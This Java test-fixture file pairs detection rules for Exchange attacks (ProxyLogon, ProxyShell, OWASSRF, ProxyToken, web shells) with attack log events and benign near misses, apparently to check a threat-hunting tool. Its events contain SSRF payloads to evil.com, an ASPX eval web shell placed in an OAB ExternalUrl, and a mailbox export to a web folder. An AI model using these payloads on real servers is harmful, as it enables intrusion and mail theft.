package org.exhunt.hunt.rules;

import java.util.ArrayList;
import java.util.List;
import org.exhunt.hunt.event.SourceKind;
import org.exhunt.sigma.Logsource;

/**
 * For every rule of the pack, one event it must fire on and a near miss it must not fire on.
 * The near miss is the ordinary request closest to the attack, so a rule that over-fires on
 * everyday Exchange traffic fails here.
 */
final class RuleCases {

    /**
     * @param logsource the logsource the events come from (the engine picks the rules by it)
     * @param positive  field/value pairs of the attack event ({@link FieldEvent#of})
     * @param negative  field/value pairs of the near miss
     */
    record Case(String rule, Logsource logsource, Object[] positive, Object[] negative) {

        /** A case whose events come from one of the text logs exhunt reads. */
        Case(String rule, SourceKind kind, Object[] positive, Object[] negative) {
            this(rule, kind.logsource(), positive, negative);
        }

        @Override
        public String toString() {
            return rule;
        }
    }

    private RuleCases() {
    }

    private static Case iis(String rule, String[] positive, String[] negative) {
        return new Case(rule, SourceKind.IIS_W3C, positive, negative);
    }

    private static String[] f(String... kv) {
        return kv;
    }

    /** Every case: the text-log rules' below, then the Windows rules' ({@link WindowsRuleCases}). */
    static List<Case> all() {
        List<Case> all = new ArrayList<>(textLogCases());
        all.addAll(WindowsRuleCases.cases());
        return all;
    }

    private static List<Case> textLogCases() {
        return List.of(
            new Case("proxylogon/httpproxy_ssrf_serverinfo_success.yml", SourceKind.EXCHANGE_HTTPPROXY,
                f("AnchorMailbox", "ServerInfo~EXCH01.contoso.local/ecp/DDI/DDIService.svc/GetList?#", "HttpStatus", "200",
                  "UrlStem", "/ecp/y.js"),
                f("AnchorMailbox", "ServerInfo~a]@localhost:444/ecp/DDI/DDIService.svc/GetList?#", "HttpStatus", "200",
                  "UrlStem", "/ecp/y.js")),
            new Case("proxylogon/httpproxy_ssrf_serverinfo_attempt.yml", SourceKind.EXCHANGE_HTTPPROXY,
                f("AnchorMailbox", "ServerInfo~a]@EXCH01.contoso.local:444/autodiscover/autodiscover.xml?#", "HttpStatus", "200"),
                f("AnchorMailbox", "SMTP:jane.doe@contoso.com", "HttpStatus", "200",
                  "BackEndCookie", "Database~6e4dbe2f-1c1a-4b7a-9f5e-0a3c4b1d2e3f~~2021-03-04T10:00:00")),
            new Case("proxylogon/httpproxy_reset_oab_vdir_via_ssrf.yml", SourceKind.EXCHANGE_HTTPPROXY,
                f("AnchorMailbox", "ServerInfo~EXCH01.contoso.local/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#", "HttpStatus", "200"),
                f("AnchorMailbox", "ServerInfo~EXCH01.contoso.local/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#", "HttpStatus", "500")),
            iis("proxylogon/iis_ecp_short_js_resource.yml",
                f("cs-method", "POST", "cs-uri-stem", "/ecp/y.js", "sc-status", "200"),
                f("cs-method", "GET", "cs-uri-stem", "/ecp/15.1.2106/scripts/microsoft.exchange.ecp.js", "sc-status", "200")),
            iis("proxylogon/iis_beresource_cookie_with_path.yml",
                f("cs-uri-stem", "/ecp/x.js", "cs-cookie", "X-BEResource=localhost/owa/auth/logon.aspx?~1942062522;+X-AnonResource=true"),
                f("cs-uri-stem", "/owa/auth/15.1.2106/themes/resources/favicon.ico", "cs-cookie", "X-BEResource=EXCH01.contoso.local~1942062522")),
            iis("proxylogon/iis_post_to_static_resource.yml",
                f("cs-method", "POST", "cs-uri-stem", "/owa/auth/Current/themes/resources/logon.css", "sc-status", "500"),
                f("cs-method", "GET", "cs-uri-stem", "/owa/auth/Current/themes/resources/logon.css", "sc-status", "200")),
            iis("proxylogon/iis_proxylogon_ecp_session_success.yml",
                f("cs-method", "POST", "cs-uri-stem", "/ecp/proxyLogon.ecp", "sc-status", "241"),
                f("cs-method", "POST", "cs-uri-stem", "/ecp/proxyLogon.ecp", "sc-status", "500")),
            iis("proxylogon/iis_proxylogon_ecp_attempt.yml",
                f("cs-method", "POST", "cs-uri-stem", "/ecp/proxyLogon.ecp", "sc-status", "500"),
                f("cs-method", "POST", "cs-uri-stem", "/ecp/proxyLogon.ecp", "sc-status", "241")),
            iis("proxylogon/iis_ecp_ddi_oab_vdir_change.yml",
                f("cs-method", "POST", "cs-uri-stem", "/ecp/DDI/DDIService.svc/SetObject",
                  "cs-uri-query", "schema=ResetOABVirtualDirectory&msExchEcpCanary=abc", "sc-status", "200"),
                f("cs-method", "POST", "cs-uri-stem", "/ecp/DDI/DDIService.svc/GetList",
                  "cs-uri-query", "schema=OABVirtualDirectory&msExchEcpCanary=abc", "sc-status", "200")),
            iis("proxylogon/iis_hafnium_user_agent_post.yml",
                f("cs-method", "POST", "cs-uri-stem", "/owa/auth/Current/themes/resources/lgnbotl.gif",
                  "cs-user-agent", "DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)"),
                f("cs-method", "GET", "cs-uri-stem", "/owa/auth/logon.aspx",
                  "cs-user-agent", "DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)")),
            new Case("proxylogon/ecp_set_vdir_url_with_markup.yml", SourceKind.EXCHANGE_ECP,
                f("S:CMD", "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>'.Identity='abc'"),
                f("S:CMD", "Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='abc'")),
            new Case("proxylogon/oabgenerator_download_outside_oab_folder.yml", SourceKind.EXCHANGE_OABGENERATOR,
                f("Message", "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed."),
                f("Message", "Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\1.tmp' needs to be removed.")),
            iis("webshell/iis_aspnet_client_aspx_answered.yml",
                f("cs-method", "POST", "cs-uri-stem", "/aspnet_client/system_web/log.aspx", "sc-status", "200"),
                f("cs-method", "GET", "cs-uri-stem", "/aspnet_client/system_web/4_0_30319/WebUIValidation.js", "sc-status", "200")),
            iis("webshell/iis_aspnet_client_aspx_probe.yml",
                f("cs-method", "GET", "cs-uri-stem", "/aspnet_client/shell.aspx", "sc-status", "404"),
                f("cs-method", "GET", "cs-uri-stem", "/aspnet_client/system_web/4_0_30319/WebUIValidation.js", "sc-status", "404")),
            iis("webshell/iis_owa_auth_unknown_aspx_post.yml",
                f("cs-method", "POST", "cs-uri-stem", "/owa/auth/OutlookEN.aspx", "sc-status", "200"),
                f("cs-method", "POST", "cs-uri-stem", "/owa/auth/expiredpassword.aspx", "sc-status", "200")),
            iis("webshell/iis_ecp_auth_unknown_aspx_post.yml",
                f("cs-method", "POST", "cs-uri-stem", "/ecp/auth/shell.aspx", "sc-status", "200"),
                f("cs-method", "POST", "cs-uri-stem", "/ecp/auth/TimeoutLogout.aspx", "sc-status", "200")),
            iis("proxyshell/iis_autodiscover_json_ssrf_attempt.yml",
                f("cs-uri-stem", "/autodiscover/autodiscover.json",
                  "cs-uri-query", "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com", "sc-status", "401"),
                f("cs-uri-stem", "/autodiscover/autodiscover.json/v1.0/jane.doe@contoso.com",
                  "cs-uri-query", "Protocol=Autodiscoverv1", "sc-status", "200")),
            iis("proxyshell/iis_autodiscover_json_ssrf_success.yml",
                f("cs-uri-stem", "/autodiscover/autodiscover.json",
                  "cs-uri-query", "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com", "sc-status", "200"),
                f("cs-uri-stem", "/autodiscover/autodiscover.json",
                  "cs-uri-query", "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com", "sc-status", "401")),
            iis("proxyshell/iis_autodiscover_json_powershell_success.yml",
                f("cs-uri-stem", "/autodiscover/autodiscover.json",
                  "cs-uri-query", "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.com",
                  "sc-status", "200"),
                f("cs-uri-stem", "/autodiscover/autodiscover.json/v1.0/jane.doe@contoso.com",
                  "cs-uri-query", "Protocol=ActiveSync", "sc-status", "200")),
            new Case("proxyshell/ecp_mailbox_export_to_web_folder.yml", SourceKind.EXCHANGE_ECP,
                f("S:CMD", "New-MailboxExportRequest.Mailbox='jane.doe'.FilePath='\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\x.aspx'"),
                f("S:CMD", "New-MailboxExportRequest.Mailbox='jane.doe'.FilePath='\\\\fs01\\pst$\\jane.doe.pst'")),
            new Case("proxyshell/ecp_mailbox_import_export_role_granted.yml", SourceKind.EXCHANGE_ECP,
                f("S:CMD", "New-ManagementRoleAssignment.Role='Mailbox Import Export'.User='jane.doe'"),
                f("S:CMD", "Get-ManagementRoleAssignment.Role='Mailbox Import Export'")),
            iis("owassrf/iis_owa_mailbox_powershell_success.yml",
                f("cs-method", "POST", "cs-uri-stem", "/owa/mastermailbox@outlook.com/powershell", "sc-status", "200"),
                f("cs-method", "POST", "cs-uri-stem", "/owa/service.svc", "sc-status", "200")),
            iis("owassrf/iis_owa_mailbox_powershell_attempt.yml",
                f("cs-method", "POST", "cs-uri-stem", "/owa/mastermailbox%40outlook.com/powershell", "sc-status", "401"),
                f("cs-method", "POST", "cs-uri-stem", "/owa/mastermailbox%40outlook.com/powershell", "sc-status", "200")),
            iis("proxytoken/iis_ecp_securitytoken_cookie.yml",
                f("cs-uri-stem", "/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject", "cs-cookie", "SecurityToken=x"),
                f("cs-uri-stem", "/ecp/RulesEditor/InboxRules.svc/NewObject", "cs-cookie", "ASP.NET_SessionId=abc;+msExchEcpCanary=def")),
            iis("proxytoken/iis_ecp_inbox_rule_for_other_mailbox.yml",
                f("cs-method", "POST", "cs-uri-stem", "/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject"),
                f("cs-method", "POST", "cs-uri-stem", "/ecp/RulesEditor/InboxRules.svc/NewObject")),
            new Case("proxyshell/httpproxy_autodiscover_json_ssrf_attempt.yml", SourceKind.EXCHANGE_HTTPPROXY,
                f("UrlStem", "/autodiscover/autodiscover.json",
                  "UrlQuery", "?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com", "HttpStatus", "401"),
                f("UrlStem", "/autodiscover/autodiscover.json/v1.0/jane.doe@contoso.com",
                  "UrlQuery", "?Protocol=Autodiscoverv1", "HttpStatus", "401")),
            new Case("proxyshell/httpproxy_autodiscover_json_ssrf_success.yml", SourceKind.EXCHANGE_HTTPPROXY,
                f("UrlStem", "/autodiscover/autodiscover.json",
                  "UrlQuery", "?@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.com",
                  "HttpStatus", "200"),
                f("UrlStem", "/autodiscover/autodiscover.json/v1.0/jane.doe@contoso.com",
                  "UrlQuery", "?Protocol=Ews", "HttpStatus", "200")),
            new Case("owassrf/httpproxy_owa_mailbox_powershell_success.yml", SourceKind.EXCHANGE_HTTPPROXY,
                f("UrlStem", "/owa/mastermailbox@outlook.com/powershell", "HttpStatus", "200"),
                f("UrlStem", "/owa/service.svc", "HttpStatus", "200")),
            new Case("owassrf/httpproxy_owa_mailbox_powershell_attempt.yml", SourceKind.EXCHANGE_HTTPPROXY,
                f("UrlStem", "/owa/mastermailbox@outlook.com/powershell", "HttpStatus", "403"),
                f("UrlStem", "/owa/mastermailbox@outlook.com/powershell", "HttpStatus", "200")),
            new Case("proxytoken/httpproxy_ecp_inbox_rule_unauthenticated.yml", SourceKind.EXCHANGE_HTTPPROXY,
                f("UrlStem", "/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject", "IsAuthenticated", "false"),
                f("UrlStem", "/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject", "IsAuthenticated", "true")),
            iis("recon/iis_hafnium_user_agent_get.yml",
                f("cs-method", "GET", "cs-uri-stem", "/owa/auth/logon.aspx", "cs-user-agent", "python-requests/2.25.1"),
                f("cs-method", "GET", "cs-uri-stem", "/owa/auth/logon.aspx",
                  "cs-user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.72 Safari/537.36")),
            iis("recon/iis_exchange_version_probe.yml",
                f("cs-method", "GET", "cs-uri-stem", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application"),
                f("cs-method", "GET", "cs-uri-stem", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
                  "cs-username", "CONTOSO\\admin"))
        );
    }
}
